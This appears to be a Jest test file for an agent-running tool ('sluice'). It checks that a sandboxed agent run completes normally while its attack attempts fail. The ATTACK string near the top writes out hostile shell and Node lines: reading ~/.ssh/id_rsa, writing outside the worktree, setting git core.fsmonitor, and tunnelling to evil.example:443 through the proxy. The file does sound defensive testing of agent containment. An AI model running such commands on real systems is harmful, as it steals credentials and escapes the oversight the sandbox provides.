/** Whole runs in a sandbox, under the built worker: they end as any other, and what an agent or a check tries around its worktree leads nowhere. */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect } from '@jest/globals';
import { type EndedRun, endedRun } from '../support/ended-run.js';
import { itInSandbox as it, mayTrySandbox } from '../support/it-in-sandbox.js';
import { openTestHost, type TestHost } from '../support/test-host.js';

const LIMIT_MS = 300_000;

/** The agent keeps no ledger: nothing outside its worktree can be written. */
const config = (home: string) =>
  `    home: [${home}]\nsandbox: required\nworktree:\n  setup: ["cat a.txt > made.log"]\nvalidation:\n  commands: ["grep -q changed a.txt", "test -e made.log && test ! -e $HOME/.ssh && git log -1"]\n`;

/** Each line is what it would print if it got through. */
const ATTACK = [
  'P=$(git rev-parse --path-format=absolute --git-common-dir); R=$(dirname "$P")',
  '(echo x > "$R/stray.txt") 2> /dev/null',
  'cat "$HOME/.ssh/id_rsa" >> caught.txt 2> /dev/null',
  'git commit -q --allow-empty -m x; git tag v1; git config core.fsmonitor evil',
  `node -e 'const s = require("net").connect(Number(process.argv[1])); s.on("connect", () => { require("fs").appendFileSync("caught.txt", "server"); s.destroy() }); s.on("error", () => {})' SERVER_PORT`,
  `node -e 'const p = new URL(process.env.HTTPS_PROXY); const s = require("net").connect(p.port, p.hostname); s.write("CONNECT evil.example:443 HTTP/1.1\\r\\nhost: x\\r\\n\\r\\n"); s.once("data", () => s.destroy())'`,
  'ls -d "$(pwd -P | sed s#/worktrees/.*#/state#)" >> caught.txt 2> /dev/null',
  '[ -s caught.txt ] || rm -f caught.txt',
].join('; ');

describe('a run with sandbox: required', () => {
  let host: TestHost;
  let ended: EndedRun;

  beforeAll(async () => {
    if (!mayTrySandbox) return;
    host = await openTestHost();
    mkdirSync(join(host.env['HOME'] ?? '', '.ssh'));
    writeFileSync(join(host.env['HOME'] ?? '', '.ssh/id_rsa'), 'secret\n');
    await host.startWorker();
    const port = host.address.split(':').at(-1) ?? '';
    ended = await endedRun(host, {
      config: config(''),
      files: { '.gitignore': '*.log\n' },
      ledger: false,
      stages: {
        executing: { append: { 'a.txt': 'changed\n' }, run: ATTACK.replace('SERVER_PORT', port), text: 'Done.' },
      },
    });
  }, LIMIT_MS);
  afterAll(() => (mayTrySandbox ? host.close() : undefined), LIMIT_MS);

  it('ends as any other, set-up and checks included, and its journal says that it was inside', () => {
    expect(ended.result).toMatchObject({ outcome: 'merge_ready', verdict: 'verified' });
    expect(ended.events.filter(({ type }) => type === 'sandbox.chosen').map(({ data }) => data)).toEqual([
      { sandbox: 'inside', network: 'proxy' },
    ]);
  });

  it('whose agent goes for checkout, keys, refs, config, server and sluice home: it gets nothing and changes nothing', () => {
    const { repository, run } = ended;

    expect(repository.git('diff', '--name-only', 'main', `sluice/${run.runId}`)).toBe('a.txt\n');
    expect(repository.git('status', '--short')).toBe('');
    expect(repository.git('tag')).toBe('');
    expect(repository.git('config', '--local', '--get-all', 'user.name')).toBe('Test Person\n');
    expect(() => repository.git('config', '--get', 'core.fsmonitor')).toThrow();
    expect(ended.events.filter(({ type }) => type === 'repository.changed')).toEqual([]);
  });

  it('tells in its journal which host the agent asked for in vain', () => {
    const refused = ended.events.filter(({ type }) => type === 'network.refused');

    expect(refused.map(({ data }) => data['hosts'])).toEqual([['evil.example:443']]);
    expect(refused[0]?.message).toContain('evil.example:443 (it is not on the list)');
  });

  it(
    'is refused where its host has no bubblewrap, and nothing of it runs',
    async () => {
      const bare = await openTestHost();
      try {
        const bin = join(bare.folder, 'bin');
        mkdirSync(bin);
        for (const name of ['git', 'node', 'sh'])
          symlinkSync(execFileSync('which', [name], { encoding: 'utf8' }).trim(), join(bin, name));
        await bare.startWorker({ env: { PATH: bin } });
        const repository = await bare.repository({ config: config('') });
        const run = await bare.startRun(repository);

        const failure = await run
          .result()
          .catch((error: { cause?: { cause?: { cause?: unknown } } }) => error.cause?.cause?.cause);
        expect(failure).toMatchObject({
          type: 'BadConfig',
          message: expect.stringContaining('sandbox is required, and there is none'),
        });
        expect(repository.git('branch', '--list', 'sluice/*')).toBe('');
        expect(existsSync(run.runDir)).toBe(false);
      } finally {
        await bare.close();
      }
    },
    LIMIT_MS,
  );
});
